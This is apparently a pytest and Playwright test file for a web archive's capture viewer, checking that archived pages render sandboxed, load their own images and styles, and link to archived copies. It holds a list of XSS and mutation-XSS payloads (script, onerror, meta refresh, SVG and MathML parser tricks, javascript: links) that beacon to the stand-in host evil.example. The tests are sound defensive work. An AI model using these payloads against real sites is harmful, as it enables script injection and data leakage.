"""Hostile and ordinary archived pages in a real browser: nothing runs, nobody is called, links lead on."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta
from urllib.parse import quote, urlsplit

import pytest
from flask import Flask
from playwright.sync_api import Browser, Page

from archive.intake import Intake
from tests.site_simulator.media import png
from tests.webui.memento.conftest import HOST, PAGE, Shelf, at
from tests.webui.serving import served

OUT = "http://evil.example"
RUN = "document.title='owned';new Image().src='http://evil.example/ran'"
# Every one of them tries to run something, to call a stranger, or to leave by itself.
HOSTILE = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror=\"{RUN}\">",
    f"<body onload=\"{RUN}\">",
    f"<meta http-equiv=refresh content='0;url={OUT}/'>",
    "<meta http-equiv=refresh content='0;url=/admin'>",
    f"<base href='{OUT}/'><img src='a.png'><link rel=stylesheet href='a.css'>",
    f"<iframe src='{OUT}/'></iframe><iframe srcdoc='<script>top.{RUN}</script>'></iframe>",
    f"<object data='{OUT}/x.swf'></object><embed src='{OUT}/x.svg'>",
    f"<link rel=preload as=script href='{OUT}/x.js'><link rel=dns-prefetch href='{OUT}'><link rel=prerender href='{OUT}'>",
    f"<style>@import '{OUT}/x.css'; body {{ background: url({OUT}/x.png) }} p {{ background: u\\72l({OUT}/y) }}</style><p>x",
    f"<p style=\"background:url('{OUT}/x.png')\">x<p style='background-image:image-set(\"{OUT}/y.png\" 1x)'>y",
    f"<img srcset='{OUT}/1.png 1x, {OUT}/2.png 2x'><picture><source srcset='{OUT}/3.png'><img src='{OUT}/4.png'></picture>",
    f"<video autoplay poster='{OUT}/p.png' src='{OUT}/v.mp4'></video><audio autoplay src='{OUT}/a.mp3'></audio>",
    f"<svg><script>{RUN}</script><image href='{OUT}/x.png'/><use href='{OUT}/x.svg#a'/></svg>",
    f"<svg><style><img src='{OUT}/x.png' onerror=\"{RUN}\"></style></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'></table></math>",
    f"<form action='{OUT}/' id=f><input name=q autofocus onfocus=\"{RUN}\"></form><button form=f formaction='{OUT}/b'>g</button>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"<template><script>{RUN}</script></template><xmp><img src=x onerror={RUN}></xmp><textarea><img src=x onerror={RUN}></textarea>",
    f"<table background='{OUT}/x.png'><td background='{OUT}/y.png'>x</table><input type=image src='{OUT}/z.png'>",
    f"<frameset onload=\"{RUN}\"><frame src='{OUT}/'></frameset>",
    f"<a href='javascript:{RUN}' ping='{OUT}/p' id=go style='position:fixed;inset:0'>bấm vào đây</a>",
    f"<svg><a><animate attributeName=href values='{OUT}/'/><text y=20 id=go>bấm</text></a></svg>",
    f"<?xml-stylesheet href='{OUT}/x.xsl'?><!--[if IE]><script>{RUN}</script><![endif]--><p>x",
]  # fmt: skip
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script><rect width='30' height='20' fill='green'/></svg>"
GOOD = f"""<!doctype html><html><head><meta charset=iso-8859-1><title>Tin</title><base href='http://{HOST}/x/'>
<link rel=stylesheet href='../kieu.css'></head><body><h1>Đại hội chi bộ</h1><img id=a src='../anh.png'>
<img id=b data-src='/anh.png' src='data:image/gif;base64,R0lGODlhAQABAAAAACw='><img id=c src='/ve.svg'>
<p><a id=in href='{PAGE.replace("&", "&amp;")}'>Tin cũ</a> <a id=out href='http://la.example/khong?a=1'>Nơi khác</a></p>
<form action='/tim'><input name=q><button>Tìm</button></form></body></html>"""


class Hall(Shelf):
    """The shelf, with hostile pages and one that uses all a page may."""

    def _fill(self, intake: Intake) -> None:
        super()._fill(intake)
        for n, body in enumerate(HOSTILE):
            page = f"<!doctype html><html><head><title>yên</title></head><body><h1>Trang {n}</h1>{body}</body></html>"
            self.take(intake, f"http://{HOST}/doc/{n}", page.encode(), at(2019))
        later = at(2019) + timedelta(days=1)
        self.take(
            intake, f"http://{HOST}/anh.png", png(3, width=30, height=20), later, mime="image/png"
        )
        self.take(intake, f"http://{HOST}/ve.svg", SVG.encode(), later, mime="image/svg+xml")
        css = b"@import url(mau.css); h1 { background: url('anh.png') }"
        self.take(intake, f"http://{HOST}/kieu.css", css, later, mime="text/css; charset=utf-16")
        self.take(
            intake, f"http://{HOST}/mau.css", b"h1 { color: rgb(1, 2, 3) }", later, mime="text/css"
        )
        self.take(
            intake,
            f"http://{HOST}/tot",
            GOOD.encode(),
            later,
            mime="text/html; charset=windows-1252",
        )
        self.take(
            intake,
            f"http://{HOST}/don.pdf",
            b"%PDF-1.4 <html><script>1</script>",
            later,
            mime="text/html",
        )


@pytest.fixture(scope="module")
def shelf(tmp_path_factory: pytest.TempPathFactory) -> Hall:
    """The archive with the hostile pages."""
    return Hall(tmp_path_factory.mktemp("hall"))


@pytest.fixture(scope="module")
def address(app: Flask) -> Iterator[str]:
    """The site on a port of its own."""
    with served(app) as address:
        yield address


class Watched:
    """A page, and whom it asked."""

    def __init__(self, browser: Browser) -> None:
        self.context = browser.new_context()
        self.asked: list[str] = []
        self.context.on("request", lambda request: self.asked.append(request.url))
        self.context.route(
            lambda url: urlsplit(url).hostname != "127.0.0.1", lambda route: route.abort()
        )
        self.page: Page = self.context.new_page()
        self.page.on("dialog", lambda dialog: self.asked.append(f"dialog:{dialog.message}"))

    def strangers(self) -> list[str]:
        own = ("127.0.0.1", "")
        return [
            url
            for url in self.asked
            if (urlsplit(url).hostname or "") not in own and not url.startswith("data:")
        ]


@pytest.fixture
def watched(browser: Browser) -> Iterator[Watched]:
    """A page of its own."""
    found = Watched(browser)
    yield found
    found.context.close()


def test_no_hostile_page_runs_calls_or_leaves(watched: Watched, shelf: Hall, address: str) -> None:
    for n in range(len(HOSTILE)):
        found = shelf.taken[f"http://{HOST}/doc/{n}"][0].id
        for path in (
            f"/capture/{found}",
            f"/capture/{found}/raw",
            f"/capture/{found}/raw?in=frame",
        ):
            watched.page.goto(f"{address}{path}")
            # Opened by itself it still stands in a frame under its banner.
            assert watched.page.url == f"{address}/capture/{found}", HOSTILE[n]
            assert watched.page.title() == "Trang đã lưu · Kho Tin", HOSTILE[n]
            frame = watched.page.frames[1]
            if path.endswith("=frame"):
                watched.page.wait_for_load_state("networkidle")
            if (go := frame.query_selector("#go")) is not None:
                go.click(force=True)
            assert f"Trang {n}" in (frame.text_content("body") or "") or "frameset" in HOSTILE[n]
            assert frame.title() in ("yên", ""), HOSTILE[n]
            assert watched.strangers() == [], HOSTILE[n]
            assert "/admin" not in watched.page.url


def test_a_page_is_shown_with_its_pictures_styles_and_letters(
    watched: Watched, shelf: Hall, address: str
) -> None:
    watched.page.goto(f"{address}/capture/{shelf.taken[f'http://{HOST}/tot'][0].id}")
    watched.page.wait_for_load_state("networkidle")
    frame = watched.page.frame_locator("iframe")
    assert frame.locator("h1").text_content() == "Đại hội chi bộ"
    for name in ("a", "b", "c"):
        size = frame.locator(f"#{name}").bounding_box()
        assert size is not None
        assert (size["width"], size["height"]) in ((30, 20), (300, 150)), name
    asked = [urlsplit(url).path for url in watched.asked]
    for url in ("anh.png", "ve.svg", "kieu.css", "mau.css"):
        assert f"/capture/{shelf.taken[f'http://{HOST}/{url}'][0].id}/raw" in asked, url
    assert frame.locator("button").is_disabled()
    assert watched.strangers() == []


def test_a_link_leads_to_the_archived_copy_with_its_own_banner(
    watched: Watched, shelf: Hall, address: str
) -> None:
    page = watched.page
    page.goto(f"{address}/capture/{shelf.taken[f'http://{HOST}/tot'][0].id}")
    page.frame_locator("iframe").locator("#in").click()
    # 2020 is a day nearer to the page's own time than 2018.
    page.wait_for_url(f"{address}/capture/{shelf.taken[PAGE][1].id}")
    assert page.locator(".banner h1").text_content() == "Trang đã lưu lúc 06-05-2020 14:08"


@pytest.mark.parametrize(("language", "said"), [("", "Chưa được lưu"), ("/en", "Not archived")])
def test_a_link_to_what_is_not_archived_says_so(
    watched: Watched, shelf: Hall, address: str, language: str, said: str
) -> None:
    page = watched.page
    page.goto(f"{address}{language}/capture/{shelf.taken[f'http://{HOST}/tot'][0].id}")
    link = page.frame_locator("iframe").locator("#out")
    assert said in (link.get_attribute("title") or "")
    link.click()
    page.wait_for_url(f"{address}{language}/capture/*/to?**")
    assert page.locator("h1").text_content() == said
    assert page.locator("a.button").get_attribute("href") == "http://la.example/khong?a=1"
    assert watched.strangers() == []


def test_a_file_that_calls_itself_a_page_is_sandboxed(shelf: Hall, app: Flask) -> None:
    sent = app.test_client().get(f"/capture/{shelf.taken[f'http://{HOST}/don.pdf'][0].id}/raw")
    assert sent.headers["X-Content-Type-Options"] == "nosniff"
    assert sent.headers["Content-Security-Policy"].startswith("sandbox")
    assert "<script" not in sent.text


def test_the_lists_fit_a_phone(watched: Watched, shelf: Hall, address: str) -> None:
    page = watched.page
    page.set_viewport_size({"width": 360, "height": 740})
    found = shelf.taken[PAGE][1].id
    for path in (f"/captures?url={quote(PAGE, safe='')}", "/captures", f"/capture/{found}"):
        for language in ("", "/en"):
            page.goto(f"{address}{language}{path}")
            assert page.evaluate("document.documentElement.scrollWidth") <= 360, path


def test_the_form_asks_for_captures(watched: Watched, shelf: Hall, address: str) -> None:
    page = watched.page
    page.goto(f"{address}/captures")
    page.fill("#url", PAGE)
    page.press("#url", "Enter")
    page.wait_for_url("**/captures?url=*")
    page.locator(f'a[href="/capture/{shelf.taken[PAGE][0].id}"]').click()
    page.wait_for_url(f"**/capture/{shelf.taken[PAGE][0].id}")
    assert page.locator(".banner .address").text_content() == PAGE
